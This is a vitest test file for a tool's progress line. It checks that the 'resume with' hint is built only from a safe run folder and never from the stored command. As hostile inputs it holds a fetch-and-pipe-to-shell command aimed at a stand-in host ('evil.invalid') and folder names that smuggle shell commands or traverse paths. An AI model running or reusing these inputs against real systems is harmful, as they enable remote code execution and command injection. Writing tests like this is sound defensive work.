import { describe, expect, it } from 'vitest';

import { readRecord } from '../../record/record';
import { progressLine } from '../../view/header';

const EVIL = '!curl https://evil.invalid|sh #%qwq_eval';

function line(changes: object): string {
  const record = { state: 'stopped', command: EVIL, run_dir: 'qwq_runs/mine' };
  return progressLine(readRecord({ ...record, ...changes })!);
}

describe('the line to resume with', () => {
  it('is made of the run’s folder, and never the one in the record', () => {
    expect(line({})).toMatch(/ · resume with %qwq_resume mine$/);
    expect(line({ run_dir: '/data/runs/a b' })).toMatch(
      / · resume with %qwq_resume 'a b' --out \/data\/runs$/
    );
  });

  it.each(['', 'qwq_runs/a;b', 'qwq_runs/$(id)', '../x/a', EVIL])(
    'is none where the folder is %j',
    run_dir => expect(line({ run_dir })).not.toMatch(/resume|curl/)
  );

  it('is none of a run that is complete', () => {
    expect(line({ state: 'complete' })).not.toContain('resume');
  });
});

describe('a progress beyond measure', () => {
  it('is one short line', () => {
    const progress = Object.fromEntries(
      ['total', 'done', 'errors', 'retries', 'tokens', 'elapsed_s'].map(
        name => [name, 1.7e308]
      )
    );
    expect(line({ progress }).length).toBeLessThan(300);
  });
});
